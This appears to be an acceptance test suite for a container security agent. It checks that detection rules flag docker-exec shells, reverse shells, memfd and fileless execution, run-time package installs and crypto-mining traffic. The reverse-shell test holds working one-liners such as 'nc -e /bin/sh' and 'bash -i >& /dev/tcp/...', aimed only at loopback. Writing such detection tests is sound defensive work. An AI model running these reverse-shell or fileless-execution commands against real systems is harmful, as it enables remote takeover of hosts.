// Acceptance tests of the default execution rules (policies/default/10-execution.yaml):
// each rule's behaviour, done for real in a container under the real agent with the default
// policy, gives an INSECURE event naming the rule, and a benign near-miss beside it stays
// NORMAL for that rule. One agent watches the whole file; every test reads only the events
// of its own containers, polling the agent's log with a generous bound. A container's script
// starts only once the agent has named the container (start()), and a scenario runs again when
// the agent reports records lost in the kernel while it ran (scenario()): this machine is shared.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { closeSync, existsSync, fstatSync, mkdtempSync, openSync, readSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { StringDecoder } from 'node:string_decoder';
import { fileURLToPath } from 'node:url';
import type { VigilEvent } from '../../src/events/index.js';
import { startAgent, type RunningAgent } from '../helpers/agent-process.js';
import { docker, missingForContainerTests, TEST_IMAGES, uniqueName, WORKLOAD_IMAGES } from '../helpers/host.js';

const skip = missingForContainerTests();
const skipPython = skip ??
  (spawnSync('docker', ['image', 'inspect', WORKLOAD_IMAGES.python], { stdio: 'ignore' }).status === 0 ? undefined : `workload image ${WORKLOAD_IMAGES.python} missing (run scripts/build-test-images.sh)`);
const HOST_BUSYBOX = '/bin/busybox';
const skipHostBusybox = skip ?? (existsSync(HOST_BUSYBOX) ? undefined : `no static busybox on the host (${HOST_BUSYBOX}, Debian's busybox-static) to listen in the bash image`);
const FIXTURES = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'test', 'policy', 'fixtures');
const WAIT_MS = 90_000;

/** Reads the agent's JSON-lines log as it grows and keeps the events by container id. */
class LogReader {
  private offset = 0;
  private rest = '';
  private readonly decoder = new StringDecoder('utf8');
  private readonly byId = new Map<string, VigilEvent[]>();
  /** The highest seq read, and the seqs of the agent's `lost` entries (records the kernel could not queue). */
  lastSeq = 0;
  private readonly lost: number[] = [];

  constructor(private readonly path: string) {}

  /** Whether the agent reported records lost after seq. */
  lostAfter(seq: number): boolean {
    this.read();
    return this.lost.some((s) => s > seq);
  }

  /** The container's own events so far (the runtime's set-up left out), in log order. */
  events(id: string): VigilEvent[] {
    return this.all(id).filter((e) => !e.process.containerSetup);
  }

  /** Every event with the container's id so far. */
  all(id: string): VigilEvent[] {
    this.read();
    return this.byId.get(id) ?? [];
  }

  private read(): void {
    if (!existsSync(this.path)) return;
    const fd = openSync(this.path, 'r');
    try {
      const size = fstatSync(fd).size;
      while (this.offset < size) {
        const buf = Buffer.alloc(Math.min(size - this.offset, 4 << 20));
        const n = readSync(fd, buf, 0, buf.length, this.offset);
        if (n <= 0) break;
        this.offset += n;
        const lines = (this.rest + this.decoder.write(buf.subarray(0, n))).split('\n');
        this.rest = lines.pop() ?? '';
        for (const line of lines) {
          if (!line) continue;
          const e = JSON.parse(line) as VigilEvent;
          let list = this.byId.get(e.container.id);
          if (!list) this.byId.set(e.container.id, (list = []));
          list.push(e);
          this.lastSeq = Math.max(this.lastSeq, e.seq);
          if (e.kind === 'lost') this.lost.push(e.seq);
        }
      }
    } finally {
      closeSync(fd);
    }
  }
}

let agent: RunningAgent | undefined;
let log: LogReader;
const started = new Set<string>();

before(async () => {
  if (skip) return;
  agent = await startAgent();
  log = new LogReader(agent.logPath);
});

after(async () => {
  for (const name of started) spawnSync('docker', ['rm', '-f', name], { stdio: 'ignore' });
  if (!agent) return;
  const { code } = await agent.stop();
  assert.equal(code, 0, agent.stderr());
});

interface Container {
  id: string;
  name: string;
  /** Host directory bind-mounted at /vigil-gate: a file `go` there lets the script start. */
  gate: string;
}

/**
 * Starts a container detached whose command, `sh -c SCRIPT`, runs only once the agent has
 * named the container (see opened()): a gate shell waits for /vigil-gate/go, then execs
 * `sh -c SCRIPT` in its place (pid 1, like any entrypoint). Under load the agent can take
 * seconds to resolve a new container, and what it sees before then carries no container.
 */
async function start(image: string, script: string, dockerArgs: string[] = []): Promise<Container> {
  const name = uniqueName('vigil-rx');
  const gate = mkdtempSync(join(tmpdir(), 'vigil-rx-gate-'));
  started.add(name);
  const id = docker('run', '-d', '--pull', 'never', '-v', `${gate}:/vigil-gate:ro`, ...dockerArgs, '--name', name, image,
    'sh', '-c', 'until [ -e /vigil-gate/go ]; do sleep 0.1; done; exec sh -c "$0"', script);
  const c = { id, name, gate };
  await opened(c);
  return c;
}

/** Waits until the agent names the container in its events (the gate's sleeps), then opens the gate. */
async function opened(c: Container): Promise<void> {
  const until = Date.now() + WAIT_MS;
  while (log.all(c.id).length === 0) {
    if (Date.now() > until) assert.fail(`the agent named no event with container ${c.name} (${c.id.slice(0, 12)}) after ${WAIT_MS} ms; agent stderr:\n${agent?.stderr()}`);
    await new Promise((r) => setTimeout(r, 100));
  }
  writeFileSync(join(c.gate, 'go'), '');
}

function finish(c: Container): number {
  return Number(docker('wait', c.name));
}

function remove(...cs: Container[]): void {
  for (const c of cs) {
    spawnSync('docker', ['rm', '-f', c.name], { stdio: 'ignore' });
    started.delete(c.name);
    rmSync(c.gate, { recursive: true, force: true });
  }
}

function logsOf(c: Container): string {
  const out = spawnSync('docker', ['logs', c.name], { encoding: 'utf8' });
  return `${out.stdout}${out.stderr}`;
}

type Match = (e: VigilEvent) => boolean;

const exec = (argv: string[], also: Match = () => true): Match => (e) =>
  e.kind === 'exec' && JSON.stringify(e.process.args) === JSON.stringify(argv) && also(e);
const connect = (port: number): Match => (e) => e.kind === 'network' && e.syscall === 'connect' && e.args['port'] === port;
const tty: Match = (e) => e.process.stdio?.[0] === 'tty';

function listing(events: VigilEvent[]): string {
  return events
    .filter((e) => e.kind === 'exec' || e.kind === 'network')
    .map((e) => JSON.stringify([e.kind, e.syscall, e.process.comm, e.process.exe, e.process.args, e.process.parent, e.process.nsPid,
      e.process.entered, e.process.stdio, e.process.exeWritten, e.kind === 'network' ? e.args['addr'] : e.args['filename'], e.verdict.rules]))
    .join('\n');
}

/** Waits until each named match has an event among the container's, and returns the first of each. */
/**
 * Records the kernel could not queue (other tests on this machine can flood every agent's ring
 * buffer) make an expected event never come: the scenario is then run again (see scenario()).
 */
class RecordsLost extends Error {}

/** The log position when the current scenario began. */
let scenarioStart = 0;

/** Runs a test's scenario, again (a few times) when the agent lost records while it ran. */
async function scenario(run: () => Promise<void>, attempts = 3): Promise<void> {
  for (let i = 1; ; i++) {
    log.events('');
    scenarioStart = log.lastSeq;
    try {
      await run();
      return;
    } catch (e) {
      if (!(e instanceof RecordsLost) || i >= attempts) throw e;
      console.log(`# ${e.message}; running the scenario again (${i + 1} of ${attempts})`);
    }
  }
}

/** Grace after the agent reports lost records before the scenario is given up. */
const LOST_GRACE_MS = 10_000;

/** Waits until each named match has an event among the container's, and returns the first of each. */
async function events<K extends string>(c: Container, wanted: Record<K, Match>, timeoutMs = WAIT_MS): Promise<Record<K, VigilEvent>> {
  const until = Date.now() + timeoutMs;
  let lostSeen: number | undefined;
  for (;;) {
    const mine = log.events(c.id);
    const found: Partial<Record<K, VigilEvent>> = {};
    const missing: string[] = [];
    for (const [k, m] of Object.entries(wanted) as Array<[K, Match]>) {
      const e = mine.find(m);
      if (e) found[k] = e;
      else missing.push(k);
    }
    if (missing.length === 0) return found as Record<K, VigilEvent>;
    if (lostSeen === undefined && log.lostAfter(scenarioStart)) lostSeen = Date.now();
    if (lostSeen !== undefined && Date.now() - lostSeen > LOST_GRACE_MS) throw new RecordsLost(`the agent lost records in the kernel and has no event for ${missing.join(', ')} in container ${c.name}`);
    if (Date.now() > until) assert.fail(`no event for ${missing.join(', ')} in container ${c.name} after ${timeoutMs} ms; its events:\n${listing(mine)}\nagent stderr:\n${agent?.stderr()}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

/**
 * The exec event of a container's very first program (Docker's init), which runs before the
 * gate. Under load the agent may name a brand-new container only after its first events (they
 * then have no container id): the run is tried again, a few times, until the agent names the
 * event. The log is in kernel order, so once the gate saw a named event, the first is out.
 */
async function firstExec(dockerArgs: string[], match: Match, attempts = 5): Promise<VigilEvent> {
  for (let i = 1; ; i++) {
    const c = await start(TEST_IMAGES.busybox, 'true', dockerArgs);
    try {
      const found = log.events(c.id).find((e) => e.kind === 'exec' && match(e));
      if (found) return found;
      if (i >= attempts) assert.fail(`the agent named the first exec of none of ${attempts} containers (${dockerArgs.join(' ')}); agent stderr:\n${agent?.stderr()}`);
    } finally {
      remove(c);
    }
  }
}

function insecure(e: VigilEvent, rule: string, what: string): void {
  assert.equal(e.verdict.level, 'INSECURE', `${what}: ${listing([e])}`);
  assert.ok(e.verdict.rules.includes(rule), `${what}: '${rule}' expected in ${JSON.stringify(e.verdict.rules)}; ${listing([e])}`);
}

function notFor(e: VigilEvent, rule: string, what: string): void {
  assert.ok(!e.verdict.rules.includes(rule), `${what}: '${rule}' must not match; ${listing([e])}`);
}

const SHELL = 'execve shell';

test('execve shell: a docker exec shell, with and without a terminal; docker exec of cat, the entrypoint script and its sub-shells (busybox and bash) stay NORMAL', { skip }, async () => scenario(async () => {
  const [busybox, bash] = await Promise.all([
    start(TEST_IMAGES.busybox, 'sh -c true; ls /; exec sleep 300'),
    start(TEST_IMAGES.bash, 'sh -c true; ls /'),
  ]);
  try {
    docker('exec', busybox.name, 'sh', '-c', 'true');
    docker('exec', busybox.name, 'cat', '/etc/hostname');
    docker('exec', '-t', busybox.name, 'sh', '-c', 'true');
    const b = await events(busybox, {
      entrypoint: exec(['sh', '-c', 'sh -c true; ls /; exec sleep 300']),
      subShell: exec(['sh', '-c', 'true'], (e) => !e.process.entered),
      execShell: exec(['sh', '-c', 'true'], (e) => e.process.entered && !tty(e)),
      execTtyShell: exec(['sh', '-c', 'true'], (e) => e.process.entered && tty(e)),
      execCat: exec(['cat', '/etc/hostname'], (e) => e.process.entered),
    });
    insecure(b.execShell, SHELL, 'docker exec NAME sh -c true');
    insecure(b.execTtyShell, SHELL, 'docker exec -t NAME sh -c true');
    notFor(b.execCat, SHELL, 'docker exec NAME cat /etc/hostname');
    notFor(b.entrypoint, SHELL, 'the entrypoint shell');
    // busybox's shell runs its sub-shell through /proc/self/exe: comm "exe", argv[0] "sh".
    assert.equal(b.subShell.process.parent, 'sh', listing([b.subShell]));
    notFor(b.subShell, SHELL, "the entrypoint script's sub-shell (busybox)");
    for (const e of [b.entrypoint, b.subShell, b.execCat]) assert.equal(e.verdict.level, 'NORMAL', listing([e]));

    assert.equal(finish(bash), 0, logsOf(bash));
    const s = await events(bash, {
      entrypoint: exec(['sh', '-c', 'sh -c true; ls /']),
      subShell: exec(['sh', '-c', 'true']),
      ls: exec(['ls', '/']),
    });
    assert.equal(s.subShell.process.comm, 'sh', listing([s.subShell]));
    for (const [what, e] of [['the entrypoint shell (bash)', s.entrypoint], ["the entrypoint script's sub-shell (bash)", s.subShell], ['ls', s.ls]] as const) {
      notFor(e, SHELL, what);
      assert.equal(e.verdict.level, 'NORMAL', listing([e]));
    }
  } finally {
    remove(busybox, bash);
  }
}));

test('execve shell: a program that is not a shell (python) starting sh and `busybox sh`; the same program running cat stays NORMAL', { skip: skipPython }, async () => scenario(async () => {
  const py = await start(WORKLOAD_IMAGES.python, 'python3 /fx/spawn-shell.py', ['-v', `${FIXTURES}:/fx:ro`]);
  try {
    assert.equal(finish(py), 0, logsOf(py));
    const p = await events(py, {
      sh: exec(['sh', '-c', 'true']),
      busyboxSh: exec(['busybox', 'sh', '-c', 'true']),
      cat: exec(['cat', '/etc/hostname']),
    });
    assert.equal(p.sh.process.parent, 'python3', listing([p.sh]));
    insecure(p.sh, SHELL, 'python spawning sh -c');
    insecure(p.busyboxSh, SHELL, 'python spawning busybox sh -c');
    notFor(p.cat, SHELL, 'python spawning cat');
    assert.equal(p.cat.verdict.level, 'NORMAL', listing([p.cat]));
  } finally {
    remove(py);
  }
}));

test('execve shell: an interactive shell on a terminal (docker run -t, the shell given no command); a script on the terminal and its sub-shell stay NORMAL', { skip }, async () => scenario(async () => {
  // The script ends by exec-ing a shell that reads the terminal: `docker run -t IMAGE sh` after a set-up script.
  const c = await start(TEST_IMAGES.busybox, 'sh -c true; ls /; exec sh', ['-t']);
  try {
    const t = await events(c, {
      script: exec(['sh', '-c', 'sh -c true; ls /; exec sh']),
      subShell: exec(['sh', '-c', 'true']),
      shell: exec(['sh']),
    });
    assert.ok(tty(t.script) && tty(t.subShell) && tty(t.shell), listing(Object.values(t)));
    assert.equal(t.shell.process.nsPid, 1, listing([t.shell]));
    insecure(t.shell, SHELL, 'sh on the terminal of docker run -t');
    notFor(t.script, SHELL, 'sh -c SCRIPT on the terminal of docker run -t');
    notFor(t.subShell, SHELL, "the script's sub-shell on the terminal");
  } finally {
    remove(c);
  }
}));

/** A listener in the container on `port` feeds `exit` to what connects, and the client retries until it is up. */
function viaListener(port: number, listener: string, client: string): string {
  return `${listener.replace('PORT', String(port))} & i=0; until ${client.replace('PORT', String(port))}; do i=$((i+1)); [ $i -gt 100 ] && exit 9; sleep 0.1; done; wait`;
}

test('reverse shell: busybox nc -e /bin/sh and nc -e sh, bash -i >& /dev/tcp, an interactive bash connecting; nc sending a file, a shell on a pipe and a wait-for-it probe stay NORMAL', { skip: skipHostBusybox }, async () => scenario(async () => {
  const RULE = 'reverse shell';
  const [nc, devTcp] = await Promise.all([
    start(TEST_IMAGES.busybox, [
      viaListener(9001, 'echo exit | nc -l -p PORT', 'nc 127.0.0.1 PORT -e /bin/sh'),
      viaListener(9002, 'echo exit | nc -l -p PORT', 'nc 127.0.0.1 PORT -e sh'),
      viaListener(9003, 'nc -l -p PORT >/dev/null', 'nc 127.0.0.1 PORT </etc/hostname'),
      'echo exit | sh',
    ].join('\n')),
    // bash's /dev/tcp: the classic `bash -i >& /dev/tcp/H/P 0>&1` (the host's static busybox
    // listens); an interactive shell connecting itself (refused: nothing listens; the connect is
    // the event); and a wait-for-it probe of a service on a private address (loopback here).
    start(TEST_IMAGES.bash, [
      viaListener(9006, 'echo exit | /opt/vigil/busybox nc -l -p PORT', "bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'"),
      "bash -i -c 'echo x >/dev/tcp/127.0.0.1/9004' || true",
      "bash -c 'cat </dev/null >/dev/tcp/127.0.0.1/9005' || true",
    ].join('\n'), ['-t', '-v', `${HOST_BUSYBOX}:/opt/vigil/busybox:ro`]),
  ]);
  try {
    assert.equal(finish(nc), 0, logsOf(nc));
    const n = await events(nc, {
      pathShell: exec(['/bin/sh']),
      appletShell: exec(['sh'], (e) => e.process.stdio?.[0] === 'inet'),
      pipeShell: exec(['sh'], (e) => e.process.stdio?.[0] === 'pipe'),
      sendFile: exec(['nc', '127.0.0.1', '9003']),
      sendConnect: (e) => connect(9003)(e) && e.process.comm === 'nc',
    });
    // busybox nc -e moves the socket onto fds 0 and 1; fd 2 stays the container's stderr.
    assert.deepEqual(n.pathShell.process.stdio, ['inet', 'inet', 'pipe']);
    insecure(n.pathShell, RULE, 'nc -e /bin/sh');
    // nc -e sh: busybox runs the applet through /proc/self/exe (comm "exe", argv ["sh"]).
    insecure(n.appletShell, RULE, 'nc -e sh');
    notFor(n.sendFile, RULE, 'nc 127.0.0.1 9003 <FILE');
    notFor(n.sendConnect, RULE, "nc's connect");
    notFor(n.pipeShell, RULE, 'echo exit | sh');
    for (const e of [n.sendFile, n.sendConnect, n.pipeShell]) assert.equal(e.verdict.level, 'NORMAL', listing([e]));

    assert.equal(finish(devTcp), 0, logsOf(devTcp));
    const d = await events(devTcp, { bashI: exec(['bash', '-i']), interactive: connect(9004), probe: connect(9005) });
    assert.deepEqual(d.bashI.process.stdio, ['inet', 'inet', 'inet']);
    insecure(d.bashI, RULE, 'bash -i >& /dev/tcp/127.0.0.1/9006 0>&1');
    assert.equal(d.interactive.process.comm, 'bash');
    insecure(d.interactive, RULE, 'bash -i: echo >/dev/tcp/127.0.0.1/9004');
    assert.equal(d.probe.process.comm, 'bash');
    notFor(d.probe, RULE, 'bash -c: cat </dev/null >/dev/tcp/127.0.0.1/9005 (wait-for-it)');
    assert.equal(d.probe.verdict.level, 'NORMAL', listing([d.probe]));
  } finally {
    remove(nc, devTcp);
  }
}));

test('fileless execution: a memfd run by /proc/self/fd/N and by fexecve, a deleted file run through its fd; /bin/true stays NORMAL', { skip: skipPython }, async () => scenario(async () => {
  const RULE = 'fileless execution';
  const py = await start(WORKLOAD_IMAGES.python, 'python3 /fx/fileless.py && /bin/true', ['-v', `${FIXTURES}:/fx:ro`]);
  try {
    assert.equal(finish(py), 0, logsOf(py));
    const f = await events(py, {
      execv: exec(['true', 'memfd-execv']),
      fexecve: exec(['true', 'memfd-fexecve']),
      deleted: exec(['true', 'deleted-fexecve']),
      image: exec(['/bin/true']),
    });
    assert.equal(f.execv.process.exe, '/memfd:vigil-execv');
    assert.equal(f.fexecve.process.exe, '/memfd:vigil-fexecve');
    insecure(f.execv, RULE, 'memfd executed by /proc/self/fd/N');
    insecure(f.fexecve, RULE, 'memfd executed by fexecve');
    // The kernel still names the unlinked file by its old path, and the writable layer no longer holds it.
    assert.ok(f.deleted.process.exe.startsWith('/usr/local/bin/vigil-ghost'), listing([f.deleted]));
    insecure(f.deleted, RULE, 'deleted file executed through its fd');
    notFor(f.image, RULE, '/bin/true');
    assert.equal(f.image.verdict.level, 'NORMAL', listing([f.image]));
  } finally {
    remove(py);
  }
}));

test('binary not from image: /bin/true copied to /tmp and to /usr/local/bin and run; /bin/true and ls from the image, and docker run --init, stay NORMAL', { skip }, async () => scenario(async () => {
  const RULE = 'binary not from image';
  const c = await start(TEST_IMAGES.bash, 'cp /bin/true /tmp/x && /tmp/x && mkdir -p /usr/local/bin && cp /bin/true /usr/local/bin/vigil-tool && vigil-tool && /bin/true && ls /');
  try {
    assert.equal(finish(c), 0, logsOf(c));
    const b = await events(c, {
      tmp: exec(['/tmp/x']),
      written: exec(['vigil-tool']),
      image: exec(['/bin/true']),
      ls: exec(['ls', '/']),
    });
    insecure(b.tmp, RULE, '/tmp/x');
    assert.equal(b.written.process.exe, '/usr/local/bin/vigil-tool');
    assert.equal(b.written.process.exeWritten, true, listing([b.written]));
    insecure(b.written, RULE, '/usr/local/bin/vigil-tool (written at run time)');
    for (const [what, e] of [['/bin/true', b.image], ['ls /', b.ls]] as const) {
      assert.equal(e.process.exeWritten, false, listing([e]));
      notFor(e, RULE, what);
      assert.equal(e.verdict.level, 'NORMAL', listing([e]));
    }

    // Docker's init is bind-mounted onto an empty file the runtime makes in the writable layer.
    const init = await firstExec(['--init'], (e) => e.process.exe === '/sbin/docker-init');
    assert.equal(init.process.nsPid, 1);
    assert.deepEqual(init.process.args.slice(0, 2), ['/sbin/docker-init', '--']);
    notFor(init, RULE, 'docker-init');
    assert.equal(init.verdict.level, 'NORMAL', listing([init]));
  } finally {
    remove(c);
  }
}));

test('package manager at run time: apt-get, pip and npm install made at run time and run from PATH, python3 -m pip; pipeline, npm start, npm run and python3 -m platform stay NORMAL', { skip: skipPython }, async () => scenario(async () => {
  const RULE = 'package manager at run time';
  const [c, py] = await Promise.all([
    start(TEST_IMAGES.bash, 'cp /bin/true /tmp/apt-get && PATH=/tmp:$PATH apt-get update && mkdir -p /usr/local/bin && ' +
      'ln -s /bin/true /usr/local/bin/pip && pip install requests && ln -s /bin/true /usr/local/bin/pipeline && pipeline run && ' +
      'ln -s /bin/true /usr/local/bin/npm && npm start && npm run build && npm install left-pad && npm ci'),
    start(WORKLOAD_IMAGES.python, 'python3 -m pip --version; python3 -m platform'),
  ]);
  try {
    assert.equal(finish(c), 0, logsOf(c));
    const p = await events(c, {
      aptGet: exec(['apt-get', 'update']),
      pip: exec(['pip', 'install', 'requests']),
      pipeline: exec(['pipeline', 'run']),
      npmStart: exec(['npm', 'start']),
      npmRun: exec(['npm', 'run', 'build']),
      npmInstall: exec(['npm', 'install', 'left-pad']),
      npmCi: exec(['npm', 'ci']),
    });
    insecure(p.aptGet, RULE, 'apt-get update');
    insecure(p.pip, RULE, 'pip install requests');
    insecure(p.npmInstall, RULE, 'npm install left-pad');
    insecure(p.npmCi, RULE, 'npm ci');
    // npm starting the application (CMD ["npm", "start"]) is not a package change.
    for (const [what, e] of [['pipeline run', p.pipeline], ['npm start', p.npmStart], ['npm run build', p.npmRun]] as const) {
      notFor(e, RULE, what);
      assert.equal(e.verdict.level, 'NORMAL', listing([e]));
    }

    finish(py); // the image has no pip module: python3 -m pip fails after its exec, which is what counts
    const m = await events(py, {
      pipModule: exec(['python3', '-m', 'pip', '--version']),
      platform: exec(['python3', '-m', 'platform']),
    });
    insecure(m.pipModule, RULE, 'python3 -m pip');
    notFor(m.platform, RULE, 'python3 -m platform');
    assert.equal(m.platform.verdict.level, 'NORMAL', listing([m.platform]));
  } finally {
    remove(c, py);
  }
}));

test('crypto mining: a stratum+tcp URL on a command line, a connect to 127.0.0.1:3333; an http URL and a connect to 127.0.0.1:8080 stay NORMAL', { skip }, async () => scenario(async () => {
  const RULE = 'crypto mining';
  // The URL is put together at run time, so that the container's own command line does not hold it.
  const c = await start(TEST_IMAGES.busybox, 'u=stratum; env true -o "$u+tcp://127.0.0.1:3333"; env true -o "http://127.0.0.1:3333"; ' +
    'nc 127.0.0.1 3333 </dev/null; nc 127.0.0.1 8080 </dev/null; true');
  try {
    assert.equal(finish(c), 0, logsOf(c));
    const m = await events(c, {
      stratum: exec(['true', '-o', 'stratum+tcp://127.0.0.1:3333']),
      http: exec(['true', '-o', 'http://127.0.0.1:3333']),
      pool: connect(3333),
      web: connect(8080),
    });
    insecure(m.stratum, RULE, 'stratum+tcp URL in argv');
    insecure(m.pool, RULE, 'connect to 127.0.0.1:3333');
    assert.equal(m.pool.error, 'ECONNREFUSED', 'nothing listens: the refused connect is the event');
    for (const [what, e] of [['http URL in argv', m.http], ['connect to 127.0.0.1:8080', m.web]] as const) {
      notFor(e, RULE, what);
      assert.equal(e.verdict.level, 'NORMAL', listing([e]));
    }
  } finally {
    remove(c);
  }
}));
